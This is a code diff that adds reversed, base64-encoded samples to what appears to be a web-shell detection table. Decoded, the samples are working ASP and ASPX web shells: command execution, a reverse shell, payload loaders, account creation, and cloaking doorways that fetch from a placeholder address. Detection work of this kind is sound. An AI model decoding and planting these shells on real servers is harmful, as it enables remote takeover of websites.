@@ -590,6 +590,96 @@ const TECHNIQUES: readonly (readonly [string, string, 'malicious' | 'suspicious'
     'malicious',
     'Pi0tID50cGlyY3MvPH07KV0ieCJbdHNldXFlUisiIGMvIiwiZG1jIih0cmF0Uy5zc2Vjb3JQLnNjaXRzb25nYWlELm1ldHN5U3spZSBzZ3JBdG5ldkUgLHMgdGNlamJvKGRhb0xfZWdhUCBkaW92PiIjQyI9ZWdhdWduYWwgInJldnJlcyI9dGFudXIgdHBpcmNzPCAtLSE8',
   ],
+  [
+    'remote command line at a fixed address',
+    '.aspx',
+    'malicious',
+    'PnRwaXJjcy88fTspaCwiIiwiZXhlLmRtYyIoc3NlY29yUGV0YWVyQzspMCwwLG9yZVoucnRQdG5JLDYsMSwyKHRla2NvU0FTVz1oIHJ0UHRuSXspZSBzZ3JBdG5ldkUscyB0Y2VqYm8oZGFvTF9lZ2FQIGRpb3Y7KWMgcnRQdG5JLGIgZ25pcnRzLGEgZ25pcnRzKHNzZWNvclBldGFlckMgbG9vYiBucmV0eGUgY2l0YXRzIF0pImxsZC4yM2xlbnJlayIodHJvcG1JbGxELnNlY2l2cmVTcG9yZXRuSS5lbWl0bnVSLm1ldHN5U1s7KWYgdG5pLGUgdG5pdSxkIHJ0UHRuSSxjIHRuaSxiIHRuaSxhIHRuaSh0ZWtjb1NBU1cgcnRQdG5JIG5yZXR4ZSBjaXRhdHMgXSkibGxkLjIzXzJzdyIodHJvcG1JbGxELnNlY2l2cmVTcG9yZXRuSS5lbWl0bnVSLm1ldHN5U1s+InJldnJlcyI9dGFudXIgdHBpcmNzPD4lICIjQyI9ZWdhdWduYUwgZWdhUCBAJTw=',
+  ],
+  [
+    'one-line function',
+    '.asp',
+    'malicious',
+    'PiVkIG51ciU8PiUpImEiKHRzZXVxZXI9ZCU8PiVub2l0Y251RiBkbkUgdCBldHVjZXhlICl0KG51ciBub2l0Y251RiU8',
+  ],
+  [
+    'jscript by its look',
+    '.asp',
+    'malicious',
+    'PiUKKSkobGxBZGFlUi50dU9kdFMucChldGlyVy5lc25vcHNlUgopcSArICIgYy8gZXhlLmRtYyIoY2V4RS5ocyA9IHAKKSJsbGVoUy50cGlyY1NXIih0Y2VqYk9YZXZpdGNBIHdlbiA9IGhzCikxKCkieCIoZ25pcnRTeXJldVEudHNldXFlUiA9IHEgJTw=',
+  ],
+  [
+    'method of a value of the caller',
+    '.aspx',
+    'malicious',
+    'PnRwaXJjcy88fTspbGx1bixsbHVuKGVrb3ZuSS4pXTJbcShkb2h0ZU10ZUcudDspXTFbcShlcHlUdGVHLmE9dCByYXY7KV0wW3EoZW1hTmxhaXRyYVBodGlXZGFvTC55bGJtZXNzQS5ub2l0Y2VsZmVSLm1ldHN5Uz1hIHJhdjspJ34nKHRpbHBTLl0iYSJbbXJvRi50c2V1cWVSPXEgXVtnbmlydHN7KWUgc2dyQXRuZXZFLHMgdGNlamJvKGRhb0xfZWdhUCBkaW92PiJyZXZyZXMiPXRhbnVyIHRwaXJjczw+JSAiI0MiPWVnYXVnbmFMIGVnYVAgQCU8',
+  ],
+  [
+    'relay of the body',
+    '.aspx',
+    'malicious',
+    'PnRwaXJjcy88fTspYihkbmVTLmM7KXNldHlCbGF0b1QudHNldXFlUihkYWVSeXJhbmlCLnRzZXVxZVI9YiBdW2V0eWI7XSJjIltub2lzc2VTKXRla2NvUyg9YyB0ZWtjb1N7KWUgc2dyQXRuZXZFLHMgdGNlamJvKGRhb0xfZWdhUCBkaW92PiJyZXZyZXMiPXRhbnVyIHRwaXJjczw+JSAiI0MiPWVnYXVnbmFMIGVnYVAgQCU8',
+  ],
+  [
+    'resolved name',
+    '.aspx',
+    'malicious',
+    'PnRwaXJjcy88fTspMDgsYSh0bmlvUGRuRVBJLnRlTi5tZXRzeVMgd2VuPXAgcmF2O10wW3RzaUxzc2VyZGRBLildImgiW3RzZXVxZVIoeXJ0bkV0c29IdGVHLnNuRC50ZU4ubWV0c3lTPWEgcmF2OykodGVrY29TIHdlbj1rIHJhdnspZSBzZ3JBdG5ldkUscyB0Y2VqYm8oZGFvTF9lZ2FQIGRpb3Y+InJldnJlcyI9dGFudXIgdHBpcmNzPD4lICIjQyI9ZWdhdWduYUwgZWdhUCBAJTw=',
+  ],
+  [
+    'machine account',
+    '.aspx',
+    'suspicious',
+    'PnRwaXJjcy88fTspKGV2YVMudTspZXVydCwiYiIsImEiLGMobGFwaWNuaXJQcmVzVSB3ZW49dSByYXY7KWVuaWhjYU0uZXB5VHR4ZXRub0ModHhldG5vQ2xhcGljbmlyUCB3ZW49YyByYXZ7KWUgc2dyQXRuZXZFLHMgdGNlamJvKGRhb0xfZWdhUCBkaW92PiJyZXZyZXMiPXRhbnVyIHRwaXJjczw+JSAiI0MiPWVnYXVnbmFMIGVnYVAgQCU8',
+  ],
+  [
+    'accounts of the computer',
+    '.asp',
+    'suspicious',
+    'PiV0eGVOCmVtYU4udSBldGlyVy5lc25vcHNlUgpjIG5JIHUgaGNhRSByb0YKKSIxLjAuMC43MjEvLzpUTm5pVyIodGNlamJPdGVHPWMgdGVTJTw=',
+  ],
+  [
+    'fully qualified request',
+    '.aspx',
+    'malicious',
+    'PiU7KWsrIiBjLyBkbWMiKGNleEUuKSkibGxlaFMudHBpcmMzNSU3NSUiKGVwYWNzZW51KHRjZWpiT1hldml0Y0Egd2VuO10iZyJbbWV0SS50c2V1cWVSPWsgcmF2O3RzZXVxZVIuYz10c2V1cWVSIHJhdjt0bmVycnVDLnR4ZXRub0NwdHRILmJlVy5tZXRzeVM9YyByYXYlPD4lInRwaXJjc0oiPWVnYXVnbmFMIGVnYVAgQCU8',
+  ],
+  [
+    'code page with zeros',
+    '.asp',
+    'malicious',
+    'PiUtcEFRS0FJQ0FyQmdJQWdDQTBCd2NBVUdBMUJRY0FVR0F5QkFLQXdHQWhCZ2RBVUdBKyU8PiUwMDA1NjAwMDAwPWVnYXBlZG9jQCU8',
+  ],
+  [
+    'stream around a stream',
+    '.aspx',
+    'malicious',
+    'PnRwaXJjcy88fTspKSldImQiW3RzZXVxZVIoRChnbmlydFN0ZUcuSUlDU0EuZ25pZG9jbkUudHhlVC5tZXRzeVMsbGx1bihlY3J1b1Ntb3JGeWxibWVzc0FlbGlwbW9DLikocmVkaXZvclBlZG9DcHJhaFNDIHdlbnspZSBzZ3JBdG5ldkUscyB0Y2VqYm8oZGFvTF9lZ2FQIGRpb3Z9OykoeWFyckFvVC5tIG5ydXRlcjspaHRnbmVMLnIsMCxyKGV0aXJXLng7KTAsbGx1bixtKG1hZXJ0U290cHlyQyB3ZW49eCByYXY7KShtYWVydFN5cm9tZU0uT0kubWV0c3lTIHdlbj1tIHJhdjspdChnbmlydFM0NmVzYUJtb3JGLnRyZXZub0M9ciBdW2V0eWJ7KXQgZ25pcnRzKEQgXVtldHliPiJyZXZyZXMiPXRhbnVyIHRwaXJjczw+JSAiI0MiPWVnYXVnbmFMIGVnYVAgQCU8',
+  ],
+  [
+    'decoder of the page over data of the caller',
+    '.asp',
+    'malicious',
+    'PiUpKSJhIih0c2V1cWVyKEQgZXR1Y2V4ZQpub2l0Y251RiBkbkUKbz1ECnR4ZU4KKW4ocmhDICYgbz1vCikpMSxpLHQoZGlNLCJGRURDQkEiKHJ0U25JPW4KKXQobmVMIG9UIDE9aSByb0YKKXQoRCBub2l0Y251RiU8',
+  ],
+  [
+    'doorway',
+    '.asp',
+    'suspicious',
+    'PiV0eGVUZXNub3BzZXIueCBldGlydy5lc25vcHNlcgpkbmVzLngKZXNsYUYsdSwiVEVHIiBuZXBvLngKKSJQVFRITE1YcmV2cmVTLjJMTVhTTSIodGNlamJPZXRhZXJDLnJldnJlUz14IHRlUwopIlRTT0hfUFRUSCIoc2VsYmFpcmF2cmV2cmVzLnRzZXVxZXImIj10c29oP2kvMS4yLjAuMjkxLy86cHR0aCI9dSU8',
+  ],
+  [
+    'doorway for search engines',
+    '.asax',
+    'suspicious',
+    'PnRwaXJjcy88fX07KSkiLzEuMi4wLjI5MS8vOnB0dGgiKGF0YURkYW9sbndvRC4pKHRuZWlsQ2JlVy50ZU4ubWV0c3lTIHdlbihldGlyV3lyYW5pQi5lc25vcHNlUnspKSJ0b2JlbGdvb2ciKHNuaWF0bm9DLnRuZWdBcmVzVS50c2V1cWVSKGZpeyllIHNnckF0bmV2RSxzIHRjZWpibyh0cmF0U19ub2lzc2VTIGRpb3Y+IiNDIj1lZ2F1Z25hbCAicmV2cmVzIj10YW51ciB0cGlyY3M8',
+  ],
+  [
+    'page planted below the site',
+    '.asp',
+    'suspicious',
+    'PiUyLCkiZW1hbiIodHNldXFlciAmICJcIiAmICkiLiIoaHRhcHBhbS5yZXZyZXMgZWxpRm9UZXZhUy5zCikieWRvYiIodHNldXFlciB0eGVUZXRpclcucwpuZXBPLnMKKSJtYWVydFMuQkRPREEiKHRjZWpiT2V0YWVyQy5yZXZyZVM9cyB0ZVMlPA==',
+  ],
 ];
 
 const stored = (text: string): string => Array.from(atob(text)).reverse().join('');
